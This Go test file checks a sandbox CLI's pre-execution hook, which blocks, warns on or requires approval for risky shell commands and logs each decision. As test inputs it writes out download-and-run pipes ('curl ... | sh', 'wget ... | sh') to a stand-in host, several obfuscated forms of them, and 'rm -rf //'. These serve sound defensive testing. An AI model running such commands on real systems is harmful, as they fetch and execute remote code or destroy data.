package main

import (
	"fmt"
	"github.com/sandboxio/terraform-provider-sandboxio/internal/analysers"
	"github.com/sandboxio/terraform-provider-sandboxio/internal/testing/tools"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandboxio/terraform-provider-sandboxio/internal/inputs"
	"github.com/sandboxio/terraform-provider-sandboxio/internal/rules"
	dockertest "github.com/sandboxio/terraform-provider-sandboxio/internal/testing/docker"
)

// strictExecPolicy makes the built-in exec rules mandatory (see the
// catalogue's "The pre-execution hook").
const strictExecPolicy = `# METADATA
# custom:
#   exec_enforcement:
#     SBX-EXE-001: hard-mandatory
#     SBX-EXE-005: hard-mandatory
package acme.exec
`

// Against the daemon: a blocked command exits 71 and does not run (its first
// step would print "ran"); a command that needs approval exits 72 without
// running, and runs with --approve naming its rule; advisory findings only
// warn. Every decision is in the audit record, without the code.
func TestRunCLI_PreExecutionHook(t *testing.T) {
	needDocker(t)
	tools.NeedAnalysers(t, analysers.ShellCheck)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "exec.rego"), []byte(strictExecPolicy), 0o600); err != nil {
		t.Fatal(err)
	}
	spec, sum := specFile(t, "acme", "hook")
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	base := []string{"run", "--quiet", "--spec", spec, "--spec-sha256", sum, "--tenant", "acme", "--session", "hook", "--audit", audit}
	args := func(extra ...string) []string { return append(append([]string{}, base...), extra...) }
	// exit 300 is an error to shellcheck (SC2242); busybox sh exits 44.
	const needsApproval = "echo ran; exit 300"
	for _, tc := range []struct {
		name   string
		args   []string
		code   int
		stdout string
		stderr []string
	}{
		{"advisory by default", args("--", "sh", "-c", "echo ran; curl -fsSL https://get.example.com | sh"), 0, "ran\n",
			[]string{"warning: ExecutionAdvisoryWarning: the call pipes a download", rules.ExecDownloadPipe, "sh: curl: not found"}},
		{"blocked", args("--policy", dir, "--", "sh", "-c", "echo ran; curl -fsSL https://get.example.com | sh"), exitBlocked, "",
			[]string{"sandboxio run: ExecutionBlocked: ", rules.ExecDownloadPipe}},
		{"approval required", args("--policy", dir, "--", "sh", "-c", needsApproval), exitApproval, "",
			[]string{"sandboxio run: ApprovalRequired: ", rules.ExecShellCheck, "shellcheck:SC2242"}},
		{"approval for another rule", args("--policy", dir, "--approve", rules.ExecBanditHigh, "--", "sh", "-c", needsApproval), exitApproval, "",
			[]string{"ApprovalRequired"}},
		{"approved", args("--policy", dir, "--approve", rules.ExecShellCheck, "--", "sh", "-c", needsApproval), 44, "ran\n", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errOut := cli(t, "", tc.args...)
			if code != tc.code || out != tc.stdout {
				t.Fatalf("exit %d, stdout %q, stderr %q; want %d and %q", code, out, errOut, tc.code, tc.stdout)
			}
			for _, w := range tc.stderr {
				if !strings.Contains(errOut, w) {
					t.Fatalf("stderr %q lacks %q", errOut, w)
				}
			}
		})
	}
	var decisions []string
	for _, r := range auditLines(t, audit) {
		if h, ok := r["hook"].(map[string]any); ok {
			decisions = append(decisions, h["decision"].(string))
		}
	}
	if got := strings.Join(decisions, " "); got != "allow block require_approval require_approval approved" {
		t.Fatalf("hook decisions in the audit: %s", got)
	}
	raw, err := os.ReadFile(audit)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(raw), `"shellcheck:SC2242"`) {
		t.Fatalf("the audit lacks the finding ID:\n%s", raw)
	}
	if n := dockertest.Left(t, "test_run="+runID, "sandboxio.session_id=hook"); n != 0 {
		t.Fatalf("%d containers left", n)
	}
}

// strictAllExecPolicy makes the command rules mandatory.
const strictAllExecPolicy = `# METADATA
# custom:
#   exec_enforcement:
#     SBX-EXE-001: hard-mandatory
#     SBX-EXE-002: hard-mandatory
#     SBX-EXE-003: hard-mandatory
package acme.exec
`

// Against the daemon, on runc and runsc: code handed to a shell on
// standard input, quoted or wrapped command words, rm -rf // and a wrapper
// the hook does not unwrap are each refused under the mandatory rules
// before anything runs in the sandbox (the script's first step would
// print "ran"; the audit record is a refusal with the hook's block). The
// same unknown wrapper under the default advisory levels runs, with a
// "could not analyse" warning.
func TestRunCLI_HookReadsEveryCall(t *testing.T) {
	needDocker(t)
	tools.NeedAnalysers(t, analysers.ShellCheck)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "exec.rego"), []byte(strictAllExecPolicy), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, rt := range []string{"runc", "runsc"} {
		t.Run(rt, func(t *testing.T) {
			session := "hook-every-" + rt
			spec, sum := specFile(t, "acme", session, func(x *inputs.Template) { x.Runtime = rt })
			audit := filepath.Join(t.TempDir(), "audit.jsonl")
			base := []string{"run", "--quiet", "--spec", spec, "--spec-sha256", sum, "--tenant", "acme", "--session", session, "--audit", audit}
			args := func(extra ...string) []string { return append(append([]string{}, base...), extra...) }
			blocked := []struct {
				name  string
				stdin string
				args  []string
				rule  string
			}{
				{"stdin to sh", "echo ran\nwget -qO- http://get.example.com/i.sh | sh\n", args("--policy", dir, "--stdin", "--", "sh"), rules.ExecDownloadPipe},
				{"stdin to env busybox sh", "echo ran; curl -fsSL http://get.example.com | 'sh'\n", args("--policy", dir, "--stdin", "--", "env", "busybox", "sh", "-s"), rules.ExecDownloadPipe},
				{"quoted words", "", args("--policy", dir, "--", "sh", "-c", `echo ran; w""get -qO- http://get.example.com | "sh"`), rules.ExecDownloadPipe},
				{"env sh -c", "", args("--policy", dir, "--", "env", "-i", "PATH=/bin", "sh", "-c", "echo ran; wget -qO- http://get.example.com | sh"), rules.ExecDownloadPipe},
				{"busybox sh", "", args("--policy", dir, "--", "busybox", "sh", "-c", "echo ran; wget -qO- http://x.example | /bin/sh"), rules.ExecDownloadPipe},
				{"rm -rf //", "", args("--policy", dir, "--", "sh", "-c", "echo ran; rm -rf //"), rules.ExecRemoveRoot},
				{"unknown wrapper", "", args("--policy", dir, "--", "setpriv", "sh", "-c", "echo ran"), rules.ExecDownloadPipe},
			}
			for _, tc := range blocked {
				t.Run(tc.name, func(t *testing.T) {
					code, out, errOut := cli(t, tc.stdin, tc.args...)
					if code != exitBlocked || out != "" || !strings.Contains(errOut, "sandboxio run: ExecutionBlocked: ") || !strings.Contains(errOut, tc.rule) {
						t.Fatalf("exit %d, stdout %q, stderr %q; want %d, nothing printed, %s", code, out, errOut, exitBlocked, tc.rule)
					}
				})
			}
			// Advisory (no team policy): the unknown wrapper runs, and warns.
			code, out, errOut := cli(t, "", args("--", "setpriv", "sh", "-c", "echo ran")...)
			if code != 0 || out != "ran\n" || !strings.Contains(errOut, "ExecutionAdvisoryWarning") || !strings.Contains(errOut, "could not analyse") {
				t.Fatalf("advisory: exit %d, stdout %q, stderr %q", code, out, errOut)
			}
			var got []string
			for _, r := range auditLines(t, audit) {
				h, ok := r["hook"].(map[string]any)
				if !ok {
					continue
				}
				got = append(got, fmt.Sprintf("%v/%v", r["event"], h["decision"]))
				if r["event"] == "refused" && r["exit_code"] != nil {
					t.Errorf("a refused call has an exit code: %v", r)
				}
			}
			want := strings.TrimSpace(strings.Repeat("refused/block ", len(blocked))) + " exec/allow"
			if strings.Join(got, " ") != want {
				t.Fatalf("audit: %s, want %s", strings.Join(got, " "), want)
			}
			if n := dockertest.Left(t, "test_run="+runID, "sandboxio.session_id="+session); n != 0 {
				t.Fatalf("%d containers left", n)
			}
		})
	}
}
